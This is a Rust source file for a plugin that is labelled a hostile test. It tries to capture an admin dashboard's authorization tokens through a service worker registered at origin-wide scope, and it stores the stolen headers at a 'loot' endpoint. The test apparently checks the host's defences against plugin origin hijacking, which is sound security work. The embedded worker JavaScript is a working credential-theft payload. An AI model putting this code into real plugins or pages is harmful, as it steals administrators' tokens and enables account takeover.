//! `swjack` (hostile test plugin): tries to capture the admin dashboard's token with a service
//! worker, as a plugin on the dashboard's origin could.
//!
//! - `GET /plugins/swjack/` — a page that registers `sw.js` at scope `/` (the whole origin) and
//!   writes `registered` or `refused: …` into `#out`.
//! - `GET /plugins/swjack/sw.js` — the worker, served with `Service-Worker-Allowed: /` so the
//!   browser lets it control the whole origin; it forwards every `Authorization` header of the
//!   requests it sees to `POST /plugins/swjack/loot`.
//! - `POST /plugins/swjack/loot` stores what it is sent; `GET` answers it.
use plugd_guest::prelude::*;
use plugd_guest::{register, storage};

#[derive(Default)]
struct SwJack;

const PAGE: &str = r#"<!doctype html>
<html><head><meta charset="utf-8"><title>swjack</title></head>
<body><pre id="out">pending</pre>
<script>
navigator.serviceWorker.register('/plugins/swjack/sw.js', { scope: '/' })
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.getElementById('out').textContent = 'registered'; })
  .catch(e => { document.getElementById('out').textContent = 'refused: ' + e; });
</script></body></html>
"#;

const WORKER: &str = r#"
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', e => {
  const auth = e.request.headers.get('authorization');
  if (auth) {
    fetch('/plugins/swjack/loot', { method: 'POST', body: e.request.url + ' ' + auth });
  }
});
"#;

impl Plugin for SwJack {
    fn init(&mut self, _config: &Config) -> Result<()> {
        register::route("GET", "/")?;
        register::route("GET", "/sw.js")?;
        register::route("GET", "/loot")?;
        register::route("POST", "/loot")?;
        Ok(())
    }

    fn handle_request(&mut self, route: &str, exchange: &Exchange) -> Result<Response> {
        match (&*exchange.method(), route) {
            (_, "/") => Ok(Response::bytes(200, "text/html; charset=utf-8", PAGE)),
            (_, "/sw.js") => Ok(Response::bytes(200, "text/javascript", WORKER)
                .with_header("service-worker-allowed", "/")),
            ("POST", "/loot") => {
                let mut loot: Vec<String> = storage::get_json("loot")?.unwrap_or_default();
                loot.push(exchange.body_text());
                storage::set_json("loot", &loot)?;
                Ok(Response::new(204))
            }
            (_, "/loot") => {
                let loot: Vec<String> = storage::get_json("loot")?.unwrap_or_default();
                Ok(Response::json(200, &loot))
            }
            (_, other) => bail!("no handler for route {other}"),
        }
    }
}

plugd_guest::export!(SwJack, name = "swjack");
